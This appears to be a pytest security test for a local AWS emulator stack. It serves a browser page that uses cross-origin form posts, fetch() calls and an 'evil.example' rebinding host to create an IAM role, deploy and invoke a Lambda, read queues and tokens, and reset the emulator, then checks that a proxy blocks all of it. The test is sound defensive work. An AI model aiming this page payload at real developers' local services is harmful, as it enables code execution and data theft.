"""Attacks by a web page on the local stack, run in a real browser on the developer's machine."""

import base64
import io
import json
import os
import threading
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError
from metering.http.operations import USAGE_SUMMARY

from local import emulator, tether
from ops.access import Access, to_emulator
from tests.browser import chromium
from tests.browser.chromium import Chromium
from tests.testing.local_stack import LocalStack
from tools import setup

pytestmark = pytest.mark.verify

_PAGE_TIMEOUT_S = 60

# The page tries every request that needs no consent: forms, and fetch() to other origins.
_PAGE = """<!doctype html><iframe name="answer"></iframe><script>
const {endpoint, page, keys, role, definition, reads} = ATTACK;

const submit = (url, enctype, fields) => new Promise(resolve => {
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: url, enctype, target: "answer"});
  for (const [name, value] of fields) {
    form.append(Object.assign(document.createElement("input"), {name, value}));
  }
  document.body.append(form);
  document.querySelector("iframe").onload = resolve;
  form.submit();
});

// What the page may read of the answer.
const read = (url, options) => fetch(url, options).then(
  async answer => answer.type === "opaque" ? "sent" : `${answer.status} ${await answer.text()}`, () => "refused");

const opened = (element, properties) => new Promise(resolve => {
  Object.assign(element, properties);
  element.onload = element.onopen = () => resolve("opened");
  element.onerror = () => resolve("refused");
});

const presigned = (path, key, service) => `${endpoint}${path}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=` +
  `${key}/20261127/us-east-1/${service}/aws4_request&X-Amz-Date=20261127T000000Z&X-Amz-Expires=604800` +
  "&X-Amz-SignedHeaders=host&X-Amz-Signature=" + "0".repeat(64);

(async () => {
  const reports = {};
  for (const key of keys) {
    await submit(presigned("/", key, "iam"), "application/x-www-form-urlencoded", role);
    await submit(presigned("/2015-03-31/functions", key, "lambda"), "text/plain", [definition]);
    await submit(presigned("/2015-03-31/functions/evil/invocations", key, "lambda"), "text/plain", [['{"a": "', '"}']]);
  }
  for (const [name, url, options] of reads) {
    reports[name] = await read(url, options);
  }
  reports["a WebSocket"] = await opened(new WebSocket(endpoint.replace("http", "ws")));
  reports["an image of the page's"] = await opened(new Image(), {src: `${page}/favicon-32x32.png`});
  await fetch("/report", {method: "POST", body: JSON.stringify(reports)});
})();
</script>
"""

_ROLE = {
    "Action": "CreateRole",
    "Version": "2010-05-08",
    "RoleName": "any",
    "AssumeRolePolicyDocument": json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
            ],
        }
    ),
}


@pytest.fixture(scope="module")
def browser() -> Chromium:
    found = chromium.find()
    if found is None:
        pytest.skip("no Chromium: npm has one for Linux on x86-64 only, so put `chromium` on the PATH")
    return found


def test_a_web_page_runs_code_on_the_bare_emulator_but_not_through_the_proxy(
    browser: Chromium, stack: LocalStack, tmp_path: Path
) -> None:
    with _bare_emulator(tmp_path) as bare:
        bare.sqs().create_queue(QueueName="wiped-by-the-page")
        endpoint = bare.endpoint or ""
        reports = _attack(browser, endpoint, endpoint, ["test"], tmp_path / "ran-by-bare")
        assert (tmp_path / "ran-by-bare").exists()
        assert reports["tables by test"] == '200 {"TableNames": []}'
        # The page also reset the emulator, which deleted everything that the page had made.
        assert not bare.sqs().list_queues().get("QueueUrls")

    keys = ["test", "000000000000", stack.stack.access_key_id]
    queues = stack.access.sqs().list_queues()["QueueUrls"]
    bearer = stack.token(stack.new_organization(), scopes=["usage:read"])
    reports = _attack(browser, stack.stack.endpoint, stack.stack.issuer, keys, tmp_path / "ran", bearer)
    assert set(reports.values()) == {"refused"}
    assert not (tmp_path / "ran").exists()
    client: Any = stack.access.session.client("lambda", endpoint_url=stack.stack.endpoint)
    with pytest.raises(ClientError, match="ResourceNotFound"):
        client.get_function(FunctionName="evil")
    assert stack.access.sqs().list_queues()["QueueUrls"] == queues


def test_the_proxy_refuses_web_pages_even_without_the_browsers_protection(
    browser: Chromium, stack: LocalStack, tmp_path: Path
) -> None:
    # With this option the browser shows the page answers that it normally hides. A page whose own name resolves to
    # this machine sees them without the option.
    trusting = replace(browser, options=["--disable-web-security"])
    with _bare_emulator(tmp_path) as bare:
        bare.sqs().create_queue(QueueName="seen-by-the-page")
        endpoint = bare.endpoint or ""
        reports = _attack(trusting, endpoint, endpoint, ["test"], tmp_path / "ran-by-bare")
        for name in ("the events", "the events by another name"):
            assert "seen-by-the-page" in reports[name]
        for name in ("a reset", "a reset by another name"):
            assert reports[name] == '200 {"reset": "ok"}'

    reports = _attack(trusting, stack.stack.endpoint, stack.stack.issuer, [stack.stack.access_key_id], tmp_path / "ran")
    # Like API Gateway, the API accepts requests of any origin. This request has no valid token.
    assert reports.pop("the API").startswith("401 ")
    assert {name: answer for name, answer in reports.items() if not answer.startswith(("403 ", "refused"))} == {}
    assert "Host" in reports["the events by another name"]
    assert not (tmp_path / "ran").exists()


def _by_name(url: str) -> str:
    return url.replace("127.0.0.1", "evil.example")


def _reads(endpoint: str, page: str, keys: Sequence[str], bearer: str) -> list[tuple[str, str, dict[str, Any]]]:
    """Every read that the page tries, as a name and the arguments of fetch()."""
    tables = {"X-Amz-Target": "DynamoDB_20120810.ListTables", "Content-Type": "application/x-amz-json-1.0"}
    signed = "Credential={}/20261127/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=" + "0" * 64
    by_key = {key: {**tables, "Authorization": f"AWS4-HMAC-SHA256 {signed.format(key)}"} for key in keys}
    by_token = {"headers": {"Authorization": f"Bearer {bearer}"}}
    form = {"headers": {"Content-Type": "application/x-www-form-urlencoded"}, "body": "client_id=demo-org"}
    post = {"method": "POST"}
    return [
        *((f"tables by {key}", endpoint, post | {"headers": by, "body": "{}"}) for key, by in by_key.items()),
        ("the API", f"{endpoint}{USAGE_SUMMARY.path}", by_token),
        ("the page", f"{page}/", {}),
        ("the API by the page", f"{page}/api{USAGE_SUMMARY.path}", by_token),
        ("the API by the page without a token", f"{page}/api{USAGE_SUMMARY.path}", {}),
        ("the API's document", f"{page}/openapi.json", {}),
        ("the keys of tokens", f"{page}/.well-known/jwks.json", {}),
        ("a token", f"{page}/token", post | form),
        ("the events", f"{endpoint}/_ministack/sqs/messages", {}),
        ("the events by another name", f"{_by_name(endpoint)}/_ministack/sqs/messages", {}),
        ("the emulator's health", f"{endpoint}/_ministack/health", {}),
        ("the proxy", f"{endpoint}/_proxy/api/evil", {}),
        ("a reset by another name", f"{_by_name(endpoint)}/_ministack/reset", post),
        ("a reset", f"{endpoint}/_ministack/reset", post),
    ]


def _attack(
    browser: Chromium, endpoint: str, page: str, keys: Sequence[str], marker: Path, bearer: str = ""
) -> dict[str, str]:
    """Open the page in `browser` with a function that writes `marker`.

    Returns: the page's report about every attempt.
    """
    attack = {
        "endpoint": endpoint,
        "page": page,
        "keys": keys,
        "role": list(_ROLE.items()),
        "definition": _function(marker),
        "reads": _reads(endpoint, page, keys, bearer),
    }
    reported = threading.Event()
    reports: dict[str, str] = {}

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(_PAGE.replace("ATTACK", json.dumps(attack)).encode())

        def do_POST(self) -> None:
            reports.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")
            reported.set()

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        with browser.visiting(f"http://evil.example:{server.server_port}/"):
            assert reported.wait(_PAGE_TIMEOUT_S), "the page did not report within a minute"
        server.shutdown()
    return reports


def _function(marker: Path) -> tuple[str, str]:
    """A form field that becomes a function's definition in JSON when the browser joins name and value with `=`."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as code:
        code.writestr("index.py", f"def handler(event, context):\n    open({str(marker)!r}, 'w').close()\n")
    definition = {
        "FunctionName": "evil",
        "Runtime": "python3.13",
        "Role": "arn:aws:iam::000000000000:role/any",
        "Handler": "index.handler",
        "Code": {"ZipFile": base64.b64encode(archive.getvalue()).decode()},
    }
    return json.dumps(definition)[:-1] + ', "Description": "', '"}'


@contextmanager
def _bare_emulator(directory: Path) -> Iterator[Access]:
    """The emulator without its proxy."""
    port = emulator.free_port()
    environment = {
        "PATH": os.defpath,
        "HOME": str(directory),
        "TMPDIR": str(directory),
        "STATE_DIR": str(directory / "state"),
        "S3_DATA_DIR": str(directory / "s3"),
        "GATEWAY_PORT": str(port),
        "BIND_HOST": "127.0.0.1",
        "AUTH": "true",
        "IOT_MTLS_ENABLED": "0",
        "DOCKER_HOST": f"unix://{directory}/no-docker.sock",
    }
    endpoint = f"http://127.0.0.1:{port}"
    lock = os.open(directory / "lock", os.O_RDWR | os.O_CREAT, 0o600)
    try:
        with (directory / "bare.log").open("wb") as log:
            process = tether.start([setup.EMULATOR_PYTHON, "-m", "ministack"], environment, directory, log, lock)
        try:
            emulator.wait_until_ready(process, endpoint, emulator.new_keys(), directory / "bare.log")
            yield to_emulator(endpoint, emulator.REGION, "test", "test")
        finally:
            tether.end(process)
    finally:
        os.close(lock)
